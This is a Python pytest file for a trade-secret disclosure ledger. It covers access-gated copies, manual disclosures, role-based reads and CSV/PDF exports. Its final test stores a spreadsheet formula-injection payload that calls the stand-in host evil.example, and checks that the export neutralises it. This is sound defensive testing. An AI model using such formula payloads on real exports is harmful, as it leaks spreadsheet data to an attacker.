"""The disclosure ledger: a secret's copy asks access first and writes its entry; manual
disclosures are recorded only when access allows; the queries, their scope and the exports."""

from __future__ import annotations

import csv
import io
import sys
from datetime import timedelta

import pypdf
import pytest
from sqlalchemy.orm import Session

from crownjewels.access.errors import AccessDenied
from crownjewels.core import clock
from crownjewels.core.actor import Actor
from crownjewels.core.errors import Forbidden, Invalid
from crownjewels.core.permissions import Role
from crownjewels.custody import service as custody
from crownjewels.disclosure import service
from crownjewels.disclosure.ledger import export as ledger_export
from crownjewels.disclosure.ledger import service as ledger
from crownjewels.disclosure.schemas import Channel, EntryRead, LedgerChannel, LedgerFilter
from crownjewels.inventory import service as inventory
from crownjewels.inventory.schemas import SecretRead
from crownjewels.parties.schemas import PersonRead
from crownjewels.vault import service as vault_service
from crownjewels.vault.service import Vault
from tests.access.factories import bind_for_access
from tests.disclosure.helpers import prose
from tests.inventory.factories import make_secret
from tests.parties.factories import actor_for, make_org, make_person, make_user

KEY = service.watermark_key("ledger-test-secret-key-0123456789")


def _upload(session: Session, admin: Actor, vault: Vault, secret: SecretRead) -> str:
    return vault_service.add_document(
        session,
        actor=admin,
        vault=vault,
        owner_type="secret",
        owner_ref=secret.ref,
        title="Process sheet",
        upload=io.BytesIO(prose(2).encode()),
        filename="process.txt",
    ).id


def _issue(session: Session, actor: Actor, vault: Vault, doc: str, to: PersonRead) -> str:
    issued = service.issue_copy(
        session,
        actor=actor,
        vault_=vault,
        key=KEY,
        document_id=doc,
        purpose="supplier audit",
        channel=Channel.CLI,
        recipient=to.email,
    )
    return issued.copy.id


def test_a_copy_of_a_secret_is_refused_with_every_reason_until_access_allows(
    session: Session, admin: Actor, vault: Vault, secret: SecretRead, alice: PersonRead
) -> None:
    doc = _upload(session, admin, vault, secret)
    with pytest.raises(AccessDenied) as denied:
        _issue(session, admin, vault, doc, alice)
    assert denied.value.status_code == 403
    assert len(denied.value.reasons) >= 2  # no grant, no agreement, no acknowledgement …
    assert all(r in denied.value.message for r in denied.value.reasons)
    assert service.list_copies(session, actor=admin, secret_ref=secret.id) == []
    assert ledger.list_entries(session, actor=admin, filters=LedgerFilter()) == []


def test_an_allowed_copy_writes_its_ledger_entry(
    session: Session, admin: Actor, vault: Vault, secret: SecretRead, alice: PersonRead
) -> None:
    doc = _upload(session, admin, vault, secret)
    binding = bind_for_access(session, person_id=alice.id, secret_id=secret.id)
    copy_id = _issue(session, admin, vault, doc, alice)
    [entry] = ledger.list_entries(session, actor=admin, filters=LedgerFilter())
    document = vault_service.get_document(session, actor=admin, document_id=doc)
    assert (entry.secret_id, entry.secret_ref, entry.document_id) == (secret.id, secret.ref, doc)
    assert entry.document_version == 1 and entry.document_sha256 == document.versions[0].sha256
    assert (entry.recipient_person_id, entry.recipient_name) == (alice.id, "Alice Smith")
    assert entry.recipient_organisation_name == "Acme Ltd"
    assert entry.channel is LedgerChannel.VAULT_COPY and entry.copy_id == copy_id
    assert binding.agreement is not None
    assert (entry.agreement_id, entry.agreement_ref) == (
        binding.agreement.id,
        binding.agreement.ref,
    )
    assert entry.agreement_version == binding.agreement.version
    assert entry.grant_refs == [binding.grant.ref]
    assert entry.approved_by == [a.approver for a in binding.grant.approvals]
    assert entry.purpose == "supplier audit" and entry.recorded_by == admin.ref
    [event] = custody.history(session, subject_type="disclosure", subject_id=entry.id)
    assert event.event_type == "DISCLOSURE_RECORDED"
    assert (event.seq, event.hash) == (entry.custody_seq, entry.custody_hash)
    assert event.details["copy_id"] == copy_id


def _record(
    session: Session,
    actor: Actor,
    secret: str,
    person: str,
    channel: LedgerChannel = LedgerChannel.MANUAL_ORAL,
) -> EntryRead:
    """A manual disclosure recorded now."""
    return ledger.record_disclosure(
        session,
        actor=actor,
        secret=secret,
        person=person,
        channel=channel,
        on=None,
        description="walked through the milling steps at the plant",
    )


def test_a_manual_disclosure_is_recorded_only_when_access_allows(
    session: Session, admin: Actor, secret: SecretRead, alice: PersonRead
) -> None:
    def record(channel: LedgerChannel = LedgerChannel.MANUAL_ORAL) -> object:
        return ledger.record_disclosure(
            session,
            actor=admin,
            secret=secret.ref,
            person=alice.email,
            channel=channel,
            on=clock.now() - timedelta(hours=2),
            description="walked through the milling steps at the plant",
        )

    with pytest.raises(AccessDenied):
        record()
    bind_for_access(session, person_id=alice.id, secret_id=secret.id, level="view")
    with pytest.raises(Invalid, match="vault copies are entered"):
        record(LedgerChannel.VAULT_COPY)
    record()
    [entry] = ledger.list_entries(session, actor=admin, filters=LedgerFilter(secret=secret.ref))
    assert entry.channel is LedgerChannel.MANUAL_ORAL and entry.document_id is None
    assert entry.description == "walked through the milling steps at the plant"
    assert entry.agreement_ref is not None and entry.copy_id is None


def test_a_manual_disclosure_reads_its_secret_once(
    session: Session,
    admin: Actor,
    secret: SecretRead,
    alice: PersonRead,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    bind_for_access(session, person_id=alice.id, secret_id=secret.id, level="view")
    reads: list[str] = []
    real_get = inventory.get
    # the decision and the entry's labels; agreements and grants read what they show themselves
    askers = {"crownjewels.access.decision", "crownjewels.disclosure.ledger.service"}

    def spy(session: Session, *, actor: Actor, secret_ref: str) -> SecretRead:
        if sys._getframe(1).f_globals["__name__"] in askers:
            reads.append(secret_ref)
        return real_get(session, actor=actor, secret_ref=secret_ref)

    monkeypatch.setattr(inventory, "get", spy)
    entry = _record(session, admin, secret.ref, alice.email)
    assert reads == [secret.ref]  # the access decision and the entry's labels share one read
    assert (entry.secret_ref, entry.secret_name) == (secret.ref, secret.name)


def test_recording_needs_grants_manage(
    session: Session, admin: Actor, secret: SecretRead, alice: PersonRead
) -> None:
    owner = actor_for(session, make_user(session, admin, Role.SECRET_OWNER))
    with pytest.raises(Forbidden, match="grants:manage"):
        _record(session, owner, secret.ref, alice.email, LedgerChannel.MANUAL_PHYSICAL)


def _two_disclosures(
    session: Session, admin: Actor, vault: Vault, secret: SecretRead, alice: PersonRead
) -> tuple[SecretRead, PersonRead]:
    """Alice gets a copy of `secret`; Bob (another organisation) of a second secret."""
    other = make_secret(session, admin, name="Green glaze")
    bob = make_person(session, admin, org=make_org(session, admin, name="Beta GmbH"), name="Bob Ng")
    for person, s in ((alice, secret), (bob, other)):
        bind_for_access(session, person_id=person.id, secret_id=s.id)
        _issue(session, admin, vault, _upload(session, admin, vault, s), person)
    return other, bob


def test_queries_by_secret_organisation_person_and_days(
    session: Session, admin: Actor, vault: Vault, secret: SecretRead, alice: PersonRead
) -> None:
    other, bob = _two_disclosures(session, admin, vault, secret, alice)

    def names(**kw: object) -> list[str]:
        found = ledger.list_entries(session, actor=admin, filters=LedgerFilter.model_validate(kw))
        return [e.recipient_name for e in found]

    assert names() == ["Alice Smith", "Bob Ng"]
    assert names(secret=other.ref) == ["Bob Ng"]
    assert names(organisation="Acme Ltd") == ["Alice Smith"]
    assert names(person=bob.email) == ["Bob Ng"]
    today = clock.today()
    assert names(since=today, until=today) == ["Alice Smith", "Bob Ng"]
    assert names(since=today + timedelta(days=1)) == []
    assert names(until=today - timedelta(days=1)) == []
    with pytest.raises(Invalid, match="before"):
        names(since=today, until=today - timedelta(days=1))


def test_who_may_read_the_ledger(
    session: Session, admin: Actor, vault: Vault, secret: SecretRead, alice: PersonRead
) -> None:
    _two_disclosures(session, admin, vault, secret, alice)
    auditor = actor_for(session, make_user(session, admin, Role.AUDITOR))
    assert len(ledger.list_entries(session, actor=auditor, filters=LedgerFilter())) == 2
    owner_person = parties_person(session, admin, secret)
    owner = actor_for(session, make_user(session, admin, Role.SECRET_OWNER, person=owner_person))
    found = ledger.list_entries(session, actor=owner, filters=LedgerFilter())
    assert [e.secret_id for e in found] == [secret.id]
    manager = actor_for(session, make_user(session, admin, Role.VENDOR_MANAGER))
    with pytest.raises(Forbidden, match="disclosures:read"):
        ledger.list_entries(session, actor=manager, filters=LedgerFilter())


def parties_person(session: Session, admin: Actor, secret: SecretRead) -> PersonRead:
    from crownjewels.parties import service as parties

    return parties.get_person(session, actor=admin, person_ref=secret.owner_id)


def test_csv_and_pdf_exports(
    session: Session, admin: Actor, vault: Vault, secret: SecretRead, alice: PersonRead
) -> None:
    _two_disclosures(session, admin, vault, secret, alice)
    entries = ledger.list_entries(session, actor=admin, filters=LedgerFilter())
    rows = list(csv.DictReader(io.StringIO(ledger_export.ledger_csv(
        session, actor=admin, filters=LedgerFilter()
    ))))  # fmt: skip
    assert list(rows[0]) == list(ledger_export.COLUMNS)
    assert [r["id"] for r in rows] == [e.id for e in entries]
    first = rows[0]
    assert first["recipient_name"] == "Alice Smith" and first["channel"] == "vault-copy"
    assert first["custody_hash"] == entries[0].custody_hash
    assert first["grant_refs"] == "; ".join(entries[0].grant_refs)
    wanted = LedgerFilter(secret=secret.ref)
    pdf = ledger_export.ledger_pdf(session, actor=admin, filters=wanted)
    text = "".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(pdf)).pages)
    flat = " ".join(text.split())
    assert "Disclosure ledger" in flat and f"secret {secret.ref}" in flat
    assert "Generated" in flat and "Alice Smith" in flat and "Bob Ng" not in flat
    assert f"#{entries[0].custody_seq}" in flat
    assert entries[0].custody_hash[:20] in text.replace("\n", "")


def test_the_exports_name_the_approver_and_who_generated_them(
    session: Session, admin: Actor, vault: Vault, secret: SecretRead, alice: PersonRead
) -> None:
    owner = parties_person(session, admin, secret)
    approver = actor_for(session, make_user(session, admin, Role.SECRET_OWNER, person=owner))
    auditor_person = make_person(session, admin, name="Dana Whitfield")
    auditor = actor_for(session, make_user(session, admin, Role.AUDITOR, person=auditor_person))
    bind_for_access(session, person_id=alice.id, secret_id=secret.id, approver=approver)
    _issue(session, admin, vault, _upload(session, admin, vault, secret), alice)

    [row] = csv.DictReader(
        io.StringIO(ledger_export.ledger_csv(session, actor=auditor, filters=LedgerFilter()))
    )
    assert row["approved_by"] == f"{owner.full_name} ({owner.email})"
    assert row["approved_by_ref"] == approver.ref  # the exact ref, for machines
    assert row["recorded_by"] == "system (test)" and row["recorded_by_ref"] == admin.ref
    pdf = ledger_export.ledger_pdf(session, actor=auditor, filters=LedgerFilter())
    flat = " ".join(
        "".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(pdf)).pages).split()
    )
    assert f"by Dana Whitfield ({auditor_person.email})" in flat
    assert owner.full_name in flat
    assert "user:" not in flat and "secret:" not in flat


def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(
    session: Session, admin: Actor, secret: SecretRead, alice: PersonRead
) -> None:
    bind_for_access(session, person_id=alice.id, secret_id=secret.id, level="view")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    ledger.record_disclosure(
        session,
        actor=admin,
        secret=secret.ref,
        person=alice.email,
        channel=LedgerChannel.MANUAL_ORAL,
        on=None,
        description=formula,
    )
    text = ledger_export.ledger_csv(session, actor=admin, filters=LedgerFilter())
    [row] = csv.DictReader(io.StringIO(text))
    assert row["description"] == "'" + formula
